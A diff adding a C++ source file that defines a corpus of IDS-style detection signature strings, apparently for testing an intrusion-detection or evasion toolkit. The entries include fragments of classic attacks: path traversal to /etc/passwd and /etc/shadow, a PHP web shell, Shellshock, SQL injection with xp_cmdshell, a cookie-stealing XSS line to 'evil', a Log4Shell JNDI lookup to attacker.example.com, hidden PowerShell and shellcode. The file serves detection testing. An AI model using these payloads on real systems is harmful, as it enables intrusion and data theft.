@@ -1,0 +1,91 @@
+#include "evasion/corpus.hpp"
+
+#include <string_view>
+
+#include "util/bytes.hpp"
+
+namespace sdt::evasion {
+
+namespace {
+
+using namespace std::string_view_literals;
+
+struct Entry {
+  const char* name;
+  std::string_view text;  // exact-match byte string (ASCII)
+};
+
+// Exploit-style exact strings in the spirit of classic IDS rule content
+// fields. These are detection *test* strings, not functional payloads.
+constexpr Entry kCorpus[] = {
+    {"http-cmd-exe", "/winnt/system32/cmd.exe?/c+dir+c:\\"sv},
+    {"http-unicode-traversal", "/scripts/..%c1%1c../..%c0%af../winnt/system32/"sv},
+    {"http-double-decode", "/msadc/..%255c..%255c..%255c..%255cwinnt/system32/"sv},
+    {"http-iis-ida", "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN"sv},
+    {"http-php-passthru", "<?php passthru($_GET['cmd']); echo shell_exec("sv},
+    {"http-etc-passwd", "GET /../../../../../../../../etc/passwd HTTP/1.0"sv},
+    {"http-proc-self", "/../../../../proc/self/environ HTTP/1.1\r\nUser-Agent:"sv},
+    {"http-awstats-rce", "/awstats.pl?configdir=|echo;echo+YYY;uname+-a;echo"sv},
+    {"http-shellshock", "() { :;}; /bin/bash -c \"/usr/bin/id; /bin/uname -a\""sv},
+    {"http-sql-union", "UNION SELECT username,password,3,4,5 FROM mysql.user--"sv},
+    {"http-sql-or", "' OR '1'='1' UNION ALL SELECT NULL,NULL,NULL,version()--"sv},
+    {"http-sql-xp", "';exec master..xp_cmdshell 'net user hax0r p4ss /add'--"sv},
+    {"http-xss-script", "<script>document.location='http://evil/c?'+document.cookie"sv},
+    {"http-nimda-root", "GET /scripts/root.exe?/c+tftp%20-i%20GET%20Admin.dll"sv},
+    {"http-formmail", "/cgi-bin/formmail.pl?recipient=spam@victim&subject="sv},
+    {"ftp-site-exec", "SITE EXEC %p%p%p%p%p%p%p%p|%08x|%08x|%08x|%08x|"sv},
+    {"ftp-mkd-overflow", "MKD AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"sv},
+    {"smtp-wiz", "WIZ\r\nDEBUG\r\nMAIL FROM:<|/bin/sed '1,/^$/d'|/bin/sh>"sv},
+    {"smtp-expn-root", "EXPN root\r\nVRFY bin\r\nMAIL FROM: |testing/bin/echo"sv},
+    {"dns-version-bind", "\x07version\x04" "bind\x00\x00\x10\x00\x03" "additional"sv},
+    {"smb-trans2-pipe", "\\PIPE\\LANMAN\x00WrLehDO\x00" "B16BBDz\x00\x01\x00\xe0\xff"sv},
+    {"shellcode-x86-nop", "\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x31\xc0\x50\x68\x2f\x2f\x73\x68"sv},
+    {"shellcode-setuid", "\x31\xdb\x89\xd8\xb0\x17\xcd\x80\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69"sv},
+    {"shellcode-bindport", "\x6a\x66\x58\x99\x52\x42\x52\x42\x52\x89\xe1\xcd\x80\x93\x59\xb0\x3f\xcd\x80"sv},
+    {"backdoor-subseven", "connected. time/date: ver: Sub7Server v2.1.5 pwd:"sv},
+    {"backdoor-netbus", "NetBus 1.70 \r\nPassword;0;you_are_owned_now_hahaha"sv},
+    {"worm-codered", "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858"sv},
+    {"worm-slammer", "\x04\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\xdc\xc9\xb0\x42\xeb\x0e\x01\x01\x01\x01\x01\x01\x01\x70\xae\x42"sv},
+    {"irc-botnet-join", "JOIN #owned-bots :!scan.start 445 192.168. /dcc.send"sv},
+    {"pop3-user-overflow", "USER AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@overflow"sv},
+    {"imap-login-long", "a001 LOGIN {4096+}BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"sv},
+    {"snmp-default-private", "\x30\x26\x02\x01\x00\x04\x07private\xa0\x18\x02\x01\x01" "community"sv},
+    {"telnet-env-ld", "NEW-ENVIRON IS LD_PRELOAD=/tmp/.hax/libroot.so USER root"sv},
+    {"rpc-portmap-dump", "\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x01\x97\x7c\x00\x00\x00\x04" "dump"sv},
+    {"ssl-heartbleed-ish", "\x18\x03\x02\x00\x03\x01\x40\x00" "heartbeat-overread-marker"sv},
+    {"exe-mz-drop", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" "payload.exe"sv},
+    {"js-unescape-eval", "eval(unescape('%75%6e%70%61%63%6b%65%64%2e%70%61%79'))"sv},
+    {"powershell-enc", "powershell.exe -NoP -NonI -W Hidden -Enc JABjAGwAaQBlAG4AdA"sv},
+    {"log4shell-ish", "${jndi:ldap://attacker.example.com:1389/Basic/Command/Base64/}"sv},
+    {"struts-ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"sv},
+    {"php-eval-base64", "eval(base64_decode($_POST['x1'])); @assert($_REQUEST['cmd']);"sv},
+    {"cgi-phf", "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0"sv},
+    {"ssh-banner-scan", "SSH-1.5-OpenSSH_-scan\r\nroot:x:0:0:root:/root:/bin/bash"sv},
+    {"tftp-get-shadow", "\x00\x01/etc/shadow\x00octet\x00" "blksize\x00" "65464\x00"sv},
+    {"rdp-ms12-020", "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x00\x00\x00\x00" "cookie=ms12020"sv},
+    {"upnp-chunked-overflow", "POST /upnp/control HTTP/1.1\r\nTransfer-Encoding: chunked\r\nSOAPAction: #Overflow"sv},
+    {"heap-spray-slide", "\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c"sv},
+    {"mirai-botnet-cred", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI-SCAN"sv},
+};
+
+}  // namespace
+
+core::SignatureSet default_corpus(std::size_t min_len) {
+  core::SignatureSet set;
+  for (const Entry& e : kCorpus) {
+    if (e.text.size() >= min_len) {
+      set.add(e.name, view_of(e.text));
+    }
+  }
+  return set;
+}
+
+core::SignatureSet synthetic_corpus(std::size_t n, std::size_t len, Rng& rng) {
+  core::SignatureSet set;
+  for (std::size_t i = 0; i < n; ++i) {
+    set.add("synthetic-" + std::to_string(i), ByteView(rng.random_bytes(len)));
+  }
+  return set;
+}
+
+}  // namespace sdt::evasion
